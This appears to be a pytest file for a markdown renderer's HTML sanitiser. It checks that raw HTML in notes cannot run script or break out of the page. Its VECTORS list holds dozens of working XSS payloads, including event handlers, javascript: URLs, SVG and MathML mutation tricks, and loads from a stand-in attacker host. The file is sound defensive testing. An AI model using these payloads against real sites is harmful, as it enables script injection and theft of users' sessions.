"""Raw HTML: whatever a note holds, nothing runs, and the page around the note stays whole."""

from __future__ import annotations

import random
import re

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from conftest import limit
from hortus.markdown import parse
from hortus.markdown.style import harmless_declarations, scoped
from hortus.model import (
    Block,
    BlockEnd,
    Dialect,
    Embed,
    File,
    Heading,
    HeadingEnd,
    Image,
    Inset,
    Link,
    LinkEnd,
    Note,
    Piece,
    Source,
    Tag,
)
from test_syntax import show

VECTORS = (
    r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script >alert(1)</script foo>
<img src=x onerror=alert(1)>
<img src=x onerror
=alert(1)>
<img/src=x/onerror=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<a href="javascript:alert(1)">x</a>
<a href=" java	script:alert(1)">x</a>
<a href="&#x6a;avascript&colon;alert(1)">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube.com.evil.example/"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import "//evil.example/x.css";</style>
<style>p::after { content: "\3c /style><img src=x onerror=alert(1)>" }</style>
<style><!-- </style><img src=x onerror=alert(1)> --></style>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext>
<template><img src=x onerror=alert(1)></template>
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml ><img src=x onerror=alert(1)>?>
<x onclick=alert(1)>x</x>
<p title="x0-0;<x0-0>">x</p>
<div style="position:fi\78 ed;inset:0">x</div>
<div style="background:url(javascript:alert(1));position:/**/fixed">x</div>
</article></main></body></html><h1>out</h1>
<table><tr><td></article></table>
<select><option></article></select>
""".strip()
    .replace("\n=alert", "\0=alert")
    .split("\n")
)

_FORBIDDEN = frozenset(
    """script object embed applet form button select textarea base meta link noscript template xmp plaintext frameset
    animate set foreignObject use marquee dialog""".split()
)


def read(text: str) -> Note:
    return parse(Source("note.md", text.encode()), Dialect())


def filled(piece: Piece) -> str:
    """What a piece may become on the page."""
    match piece:
        case str():
            return piece
        case Heading() | HeadingEnd():
            return f"<{'/' * isinstance(piece, HeadingEnd)}h{piece.level}>"
        case Inset():
            return piece.name
        case Block() | BlockEnd():
            return ""
        case Link():
            return f'<a href="#"{piece.attributes}>'
        case LinkEnd():
            return "</a>"
        case Image():
            return f'<img src="x"{piece.attributes}>'
        case File():
            return "x"
        case Tag():
            return f"<a>#{piece.name}</a>"
        case Embed():
            return "<div>x</div>"


def page(text: str) -> LexborNode:
    body = "".join(filled(piece) for piece in read(text).body)
    html = f'<main><article class="note">{body}</article><footer>after</footer></main>'
    root = LexborHTMLParser(html, is_fragment=True).root
    assert root is not None
    return root


def assert_harmless(text: str) -> None:
    root = page(text)
    footer = root.css_first("footer")
    assert footer is not None
    assert footer.parent is not None
    assert footer.parent.tag == "main", "the note reaches beyond its end"
    for node in root.traverse():
        assert node.tag not in _FORBIDDEN
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            assert name not in {"srcdoc", "formaction", "action", "xlink:href"}
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            assert not (
                name in {"href", "src"} and address.startswith(("javascript:", "vbscript:", "data:text"))
            )
            assert not (name == "style" and "fixed" in re.sub(r"\\78 ?", "x", value or ""))


@pytest.mark.parametrize("text", VECTORS)
def test_nothing_runs(text: str) -> None:
    for written in (text, f"Text {text} text.", f"- {text}", f"> {text}\n\n| a |\n| - |\n| {text} |"):
        assert_harmless(written.replace("\0", "\n"))


WORDS = """<div> </div> <b> </b> <p> </p> <a> </a> <a\u0020href=x> <table> <tr> <td> </table> <!-- --> <ul> <li> </ul> <svg> </svg> <math>
</math> <details> <summary> </details> <style> </style> <script> </script> <textarea> </textarea> <iframe> <select> <int>
</article> </main> <h1> </h1> <br> <img\u0020src=x> <video\u0020src=y> " ' = > < & ** * _ ` ``` [x](y) ![z](w) [[v]] $x$ # ## > - 1. | --- text \n \n\n
    &lt; <font <i <p\u0020title="x""".split(" ")


@pytest.mark.parametrize("seed", range(300))
def test_the_page_around_stays_whole(seed: int) -> None:
    draw = random.Random(seed)
    text = "".join(
        draw.choice(WORDS) + draw.choice(["", " ", "\n", "\n\n"]) for _ in range(draw.randint(1, 40))
    )
    assert_harmless(text.replace("\u0020", " "))


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("<h1>Name</h1>\n", "Name"),
        (
            '<h1 align="center">\n  <img src="a.png"><br>\n  The <b>Name</b> &amp; Co\n</h1>\n',
            "The Name & Co",
        ),
        ('<p align="center"><img src="a.png"></p>\n\n<div><h1>Name</h1>\n<p>Words</p></div>\n', "Name"),
        ("---\ntitle: name\n---\n<h1>Name</h1>\n", "Name"),
        ("<h1>Name\n\nText\n", "Name"),
    ],
)
def test_a_title_at_the_top_may_be_html(text: str, title: str) -> None:
    read = parse(Source("note.md", text.encode()), Dialect())
    assert read.title == title
    assert "ame" not in "".join(piece for piece in read.body if isinstance(piece, str))


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("Text.\n\n<h1>Name</h1>\n", "Note"),
        ("<p>Text</p>\n<h1>Name</h1>\n", "Note"),
        ("<table><tr><td><h1>Name</h1></td></tr></table>\n", "Note"),
        ("---\ntitle: Own\n---\n<h1>Name</h1>\n", "Own"),
        ("<h1><img src='a.png'></h1>\n", "Note"),
    ],
)
def test_other_headings_in_html_are_text(text: str, title: str) -> None:
    read = parse(Source("note.md", text.encode()), Dialect())
    assert read.title == title
    assert ("Name" in text) == ("Name" in "".join(piece for piece in read.body if isinstance(piece, str)))


def test_text_survives_html_that_is_left_open() -> None:
    openers = "<div> <b> <table> <details> <script> <style> <textarea> <iframe> <svg> <select> <title> <p\u0020class='x".split(
        " "
    )
    for opener in openers:
        for text in (f"before {opener} after\n\nlast", f"{opener}\nafter\n\nlast"):
            words = page(text).text(deep=True)
            assert "after" in words, text
            assert "last" in words, text


@pytest.mark.parametrize(
    "opener",
    [
        "<div>",
        "<b>",
        "</b>",
        "<script>",
        "<!--",
        "<a b='",
        '<a b="',
        "<svg>",
        "<",
        "<x",
        "<style>",
        "<p>\n\n",
        "<b>\n\n",
        "<td>",
    ],
)
def test_many_openers_cost_no_more_than_each(opener: str) -> None:
    with limit():
        note = read(opener * 20_000)
    assert not [problem for problem in note.problems if problem.code == "internal"]


def test_what_is_left_out_is_said() -> None:
    problems = read("One\n\ntwo <b onclick='x()'>three</b>\n<script>\nx()\n</script>\n").problems
    assert [(problem.code, problem.line, problem.column) for problem in problems] == [
        ("html-removed", 3, 5),
        ("html-removed", 4, 0),
    ]


def test_trusted_html_stays() -> None:
    text = '<script>let a = "<b>";</script>\n\n<form action="https://example.org"><input name="q"></form>'
    html = show(parse(Source("note.md", text.encode()), Dialect(html="trusted")))
    assert html.strip() == (
        '<script>let a = "<b>";</script>\n<form action="https://example.org"><input name="q"></form>'
    )


def test_trusted_html_is_closed_too() -> None:
    html = show(parse(Source("note.md", b"<form>\n\n**x**\n\n<script>\ny"), Dialect(html="trusted")))
    assert html.split() == ["<form>", "</form><p><strong>x</strong></p>", "<p>&lt;script>", "y</p>"]


@pytest.mark.parametrize(
    ("css", "expected"),
    [
        ("p{color:red}", "article.note p { color: red }"),
        ('a, b:is(i, u) > [x=","]{}', 'article.note a, article.note b:is(i, u) > [x=","] {  }'),
        ("html body p {}", "article.note p {  }"),
        (":root{--a: 1}", "article.note { --a: 1 }"),
        ("* {margin:0}", "article.note * { margin: 0 }"),
        ("@keyframes a { from { top: 0 } }", "@keyframes a { from { top: 0 } }"),
        ("@page { margin: 0 }", ""),
        ("} p {color: red}", ""),
        ("p { color: red", "article.note p { color: red }"),
    ],
)
def test_style_holds_for_the_note_alone(css: str, expected: str) -> None:
    assert scoped(css) == expected


def test_declarations_that_leave_the_note_go() -> None:
    assert harmless_declarations("color: red; position: FIXED; top: 0") == "color: red; top: 0"
    assert harmless_declarations("position: relative") == "position: relative"
